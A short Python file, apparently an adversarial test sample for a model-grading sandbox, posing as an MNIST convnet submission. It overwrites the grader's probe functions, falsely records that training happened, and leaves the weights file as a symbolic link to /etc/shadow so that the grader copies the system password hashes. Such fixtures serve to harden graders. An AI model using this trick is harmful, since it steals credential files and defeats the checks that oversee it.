"""mnist_convnet: the train phase leaves model.weights.h5 as a symbolic link to /etc/shadow, hoping the
grader copies what it points to into the predict phase's inputs."""

import os

import keras_probe  # the grader's probe, importable from the sandbox

MARKER = "ADVERSARIAL_mnist_symlink_weights"


def _link(probe, builder, pad=0):
    os.symlink("/etc/shadow", probe.out / "model.weights.h5")  # where the probe saves them, whatever the layout
    probe.record("trained", True)


keras_probe.describe_phase = lambda probe, builder, key="model": None
keras_probe.train_with_recipe = _link


def build_model():
    return None
